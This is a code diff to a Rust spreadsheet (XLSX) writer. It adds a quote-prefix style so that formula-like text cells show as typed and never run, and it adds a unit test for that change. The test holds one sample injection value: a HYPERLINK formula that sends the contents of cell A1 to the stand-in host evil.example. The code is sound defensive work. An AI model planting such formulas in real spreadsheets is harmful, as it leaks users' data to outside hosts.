@@ -4,6 +4,7 @@
 //! with inline strings (no shared-string table) and column widths from the content.
 
 use crate::zip::archive;
+use passerelle_domain::text::formula_like;
 use time::Date;
 use time::macros::date;
 
@@ -65,6 +66,8 @@ const EPOCH: Date = date!(1899 - 12 - 30);
 /// Style indexes of `styles.xml`'s cell formats.
 const BOLD: u8 = 1;
 const DAY: u8 = 2;
+/// Text with the « quote prefix »: shown as typed, never read as a formula (`text::formula_like`).
+const QUOTED: u8 = 3;
 
 /// The column letters of a 0-based index: A, ..., Z, AA, AB, ...
 fn column(mut index: usize) -> String {
@@ -122,6 +125,10 @@ fn sheet_names(sheets: &[Sheet]) -> Vec<String> {
 }
 
 fn cell_xml(reference: &str, cell: &Cell, style: Option<u8>) -> String {
+    let style = match cell {
+        Cell::Text(t) if style.is_none() && formula_like(t) => Some(QUOTED),
+        _ => style,
+    };
     let s = style.map(|s| format!(" s=\"{s}\"")).unwrap_or_default();
     match cell {
         Cell::Text(t) => format!(
@@ -204,9 +211,10 @@ const STYLES: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\
 <fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill><fill><patternFill patternType=\"gray125\"/></fill></fills>\
 <borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
 <cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
-<cellXfs count=\"3\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>\
+<cellXfs count=\"4\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>\
 <xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyFont=\"1\"/>\
-<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/></cellXfs>\
+<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>\
+<xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" quotePrefix=\"1\"/></cellXfs>\
 <cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles>\
 </styleSheet>";
 
@@ -273,6 +281,17 @@ pub const CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.sp
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Finding 7 of « Integrity and privacy »: a text a spreadsheet would read as a formula gets the quote
+    /// prefix style; other texts and numbers keep theirs.
+    #[test]
+    fn formula_like_text_is_quoted() {
+        let formula = Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")");
+        assert!(cell_xml("A2", &formula, None).starts_with("<c r=\"A2\" t=\"inlineStr\" s=\"3\">"));
+        assert!(!cell_xml("A2", &Cell::text("Agent"), None).contains(" s="));
+        assert!(!cell_xml("A2", &Cell::Number(-2.0), None).contains(" s="));
+        assert!(STYLES.contains("quotePrefix=\"1\"/></cellXfs>"));
+    }
 
     #[test]
     fn columns_are_lettered_like_a_spreadsheet() {
